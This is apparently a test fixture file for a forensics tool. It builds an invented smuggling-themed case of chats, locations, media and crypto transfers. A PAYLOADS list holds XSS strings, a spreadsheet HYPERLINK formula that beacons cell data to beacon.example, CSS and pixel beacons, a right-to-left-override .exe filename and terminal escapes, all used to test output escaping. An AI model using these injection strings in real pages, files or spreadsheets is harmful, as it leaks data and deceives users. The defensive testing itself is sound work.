"""One invented evening on two phones, as frames shaped like the tables of a case."""

from datetime import UTC, datetime
from html.parser import HTMLParser

import pandas as pd
import pyarrow as pa
import pytest

from forensics import tables

RLO, PDF = "\u202e", "\u202c"

PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    '"onmouseover=alert(1) x="',
    "javascript:alert(1)",
    "`+alert(3)+`${alert(4)}",
    '=HYPERLINK("http://beacon.example/?"&A1,"open")',
    f"invoice{RLO}gpj.exe",
    "bell\x07 esc\x1b[2J nul\x00 line\u2028break",
    "<style>@import url(http://beacon.example/x.css)</style><svg onload=alert(5)>",
    "![x](http://beacon.example/pixel.png) <link rel=stylesheet href=//beacon.example/a.css>",
)
"""Texts that harm a page, a terminal or a spreadsheet which shows them as they are."""


def frame(table, *rows):
    """A dataframe of one unified table, typed as in a case."""
    return pa.Table.from_pylist(list(rows), schema=table.schema).to_pandas()


def at(hour, minute=0, day=5, month=3):
    return datetime(2024, month, day, hour, minute, tzinfo=UTC)


def place_of(number, evidence="A1", path="data/msgstore.db", table="message", state="live"):
    return {
        "evidence": evidence,
        "path": path,
        "file": "ab" * 32,
        "record": f"{table}/_id={number}",
        "state": state,
        "parser": "whatsapp.android@1",
    }


CHAT = {
    "app": "WhatsApp",
    "chat_id": "38269111222@s.whatsapp.net",
    "chat_name": "Марко Петровић",
    "chat_kind": "direct",
    "time_basis": "utc",
}
INCOMING = {
    "direction": "incoming",
    "sender_id": "38269111222@s.whatsapp.net",
    "sender_name": "Марко Петровић",
    "kind": "text",
}
OUTGOING = {"direction": "outgoing", "kind": "text"}
GROUP = {
    "app": "Telegram",
    "chat_id": "-100777",
    "chat_name": "سفر به اروپا",
    "chat_kind": "group",
    "time_basis": "utc",
}


@pytest.fixture
def messages():
    return frame(
        tables.MESSAGES,
        CHAT
        | place_of(1)
        | {
            "direction": "system",
            "kind": "system",
            "message_id": "m1",
            "sent_at": at(18),
            "text": "Messages are end-to-end encrypted",
        },
        CHAT
        | INCOMING
        | place_of(2)
        | {"message_id": "m2", "sent_at": at(18, 2), "text": "Kombi polazi u 22h sa parkinga. Granica je mirna."},
        CHAT
        | OUTGOING
        | place_of(3)
        | {"message_id": "m3", "sent_at": at(18, 5), "text": "Koliko ljudi?", "reply_to": "m2"},
        CHAT
        | INCOMING
        | place_of(4)
        | {
            "message_id": "m4",
            "sent_at": at(18, 6),
            "text": "Шест. Плаћање на USDT, адреса сутра 👨‍👩‍👧",
            "edited": True,
            "edited_at": at(18, 9),
        },
        CHAT | INCOMING | place_of(5) | {"message_id": "m5", "sent_at": at(18, 20), "kind": "image"},
        CHAT
        | OUTGOING
        | place_of(6, state="wal")
        | {
            "message_id": "m6",
            "sent_at": at(21, 40),
            "text": "Evo lokacija",
            "kind": "location",
            "latitude": 42.7728,
            "longitude": 20.9718,
        },
        CHAT
        | INCOMING
        | place_of(7, state="journal")
        | {"message_id": "m7", "sent_at": at(23, 1), "kind": "deleted", "deleted": True, "reply_to": "m99"},
        GROUP
        | INCOMING
        | place_of(1, path="telegram/result.json")
        | {
            "sender_id": "user88",
            "sender_name": "نادر",
            "message_id": "1",
            "sent_at": at(9, day=6),
            "text": "سلام، ساعت ۷ صبح کنار ایستگاه. price 3000€",
            "forwarded": True,
        },
        GROUP
        | INCOMING
        | place_of(2, path="telegram/result.json")
        | {
            "sender_id": "user99",
            "sender_name": f"Ali{RLO}nimda",
            "message_id": "2",
            "sent_local": datetime(2024, 3, 6, 9, 30),
            "time_basis": "local",
            "text": "OK",
        },
    )


@pytest.fixture
def attachments():
    return frame(
        tables.ATTACHMENTS,
        CHAT_KEY
        | place_of(5, table="message_media")
        | {
            "message_id": "m5",
            "name": "IMG-20240305-WA0001.jpg",
            "mime": "image/jpeg",
            "size": 188_213,
            "present": False,
            "caption": "паркинг",
        },
    )


@pytest.fixture
def reactions():
    return frame(
        tables.REACTIONS,
        CHAT_KEY | place_of(1, table="reaction") | {"message_id": "m2", "value": "👍", "person_id": "38269000111"},
    )


CHAT_KEY = {"app": CHAT["app"], "chat_id": CHAT["chat_id"]}

ROUTE = [
    ("A1", at(6, 10), 41.1231, 25.4037, "Komotini"),
    ("A1", at(14, 0), 41.1382, 22.5031, "Gevgelija"),
    ("A1", at(21, 40), 42.2369, 21.6939, "Tabanovce"),
    ("A1", at(2, 15, day=6), 43.3209, 21.8958, "Niš"),
    ("A1", at(19, 5, day=6), 46.1005, 19.6675, "Subotica"),
    ("B7", at(11, 30), 42.6629, 21.1655, "Prishtina"),
    ("B7", at(16, 45), 42.4304, 19.2594, "Podgorica"),
    ("B7", at(9, 20, day=6), 43.8563, 18.4131, "Sarajevo"),
]


@pytest.fixture
def places():
    return frame(
        tables.PLACES,
        *(
            place_of(i, evidence, "DCIM/IMG.jpg", "exif")
            | {
                "at": when,
                "latitude": lat,
                "longitude": lon,
                "label": label,
                "kind": "photo",
                "ref": f"IMG_{i}.jpg",
                "accuracy_m": 9000.0 if label == "Niš" else None,
            }
            for i, (evidence, when, lat, lon, label) in enumerate(ROUTE, 1)
        ),
        place_of(99) | {"at": at(1), "latitude": 999.0, "longitude": 0.0, "kind": "app"},
        place_of(98) | {"at": at(1), "kind": "app"},
    )


@pytest.fixture
def media():
    return frame(
        tables.MEDIA,
        place_of(1, path="DCIM/100/IMG_0001.jpg")
        | {
            "kind": "photo",
            "mime": "image/jpeg",
            "taken_at": at(6, 10),
            "make": "samsung",
            "model": "SM-A515F",
            "width": 4000,
            "height": 3000,
            "latitude": 41.1231,
            "longitude": 25.4037,
        },
        place_of(2, path="DCIM/100/IMG_0002.jpg")
        | {
            "kind": "photo",
            "mime": "image/jpeg",
            "taken_local": datetime(2024, 3, 5, 15, 0, 1),
            "time_basis": "local",
            "make": "Apple",
            "model": "iPhone 12",
        },
        place_of(3, path="DCIM/100/VID_0003.mp4")
        | {"kind": "video", "mime": "video/mp4", "taken_at": at(8), "duration_s": 12.4},
    )


@pytest.fixture
def calls():
    return frame(
        tables.CALLS,
        place_of(1, table="call_log")
        | {
            "app": "WhatsApp",
            "call_id": "c1",
            "started_at": at(20, 15),
            "duration_s": 61.0,
            "direction": "outgoing",
            "outcome": "answered",
            "peer_id": "38269111222",
            "peer_name": "Марко Петровић",
        },
    )


@pytest.fixture
def transfers():
    return frame(
        tables.TRANSFERS,
        place_of(1, path="binance.csv", table="line")
        | {
            "platform": "Binance",
            "kind": "withdrawal",
            "chain": "tron",
            "asset": "USDT",
            "amount": "3000",
            "at": at(10, day=6),
            "to_address": "TUEZSdKsoDHQMeZwihtdoBiN46zxhGWYdH",
        },
    )


class Reading(HTMLParser):
    """What a view shows, as a browser would take it: elements with their classes, attributes and text."""

    VOID = ("br", "hr", "img", "meta")

    def __init__(self, markup):
        super().__init__()
        self.elements, self._open = [], []
        self.feed(markup)
        self.close()
        assert not self._open, f"not closed: {[one['tag'] for one in self._open]}"

    def handle_starttag(self, tag, attrs):
        one = {"tag": tag, "attrs": dict(attrs), "text": ""}
        self.elements.append(one)
        if tag not in self.VOID:
            self._open.append(one)

    def handle_endtag(self, tag):
        assert self._open.pop()["tag"] == tag

    def handle_data(self, data):
        for one in self._open:
            one["text"] += data

    @property
    def text(self):
        return "".join(one["text"] for one in self.elements[:1])

    @property
    def tags(self):
        return {one["tag"] for one in self.elements}

    def find(self, tag=None, class_=None):
        return [
            one
            for one in self.elements
            if tag in (None, one["tag"]) and (class_ is None or class_ in (one["attrs"].get("class") or "").split())
        ]

    def texts(self, tag=None, class_=None):
        return [one["text"] for one in self.find(tag, class_)]

    def table(self):
        """The cells of all rows of all tables, heads included."""
        rows = []
        for one in self.find():
            if one["tag"] == "tr":
                rows.append([])
            elif one["tag"] in ("td", "th"):
                rows[-1].append(one["text"])
        return rows


@pytest.fixture
def read():
    return lambda view: Reading(f"<body>{view.markup}</body>")


@pytest.fixture(params=PAYLOADS)
def payload(request):
    return request.param


@pytest.fixture
def poisoned(messages, attachments, reactions, places, media, calls, transfers, payload):
    """The story with a payload in every cell of text: names, texts, ids, kinds, paths, records, labels of the evidence."""

    def poison(df):
        texts = [name for name in df.columns if isinstance(df[name].dtype, pd.StringDtype | pd.CategoricalDtype)]
        kept = [name for name in texts if name in ("direction", "time_basis")]
        return df.assign(
            **{name: pd.Series(payload, index=df.index, dtype="str") for name in texts if name not in kept}
        )

    frames = {"messages": messages, "attachments": attachments, "reactions": reactions, "places": places}
    frames |= {"media": media, "calls": calls, "transfers": transfers}
    return {name: poison(df) for name, df in frames.items()}
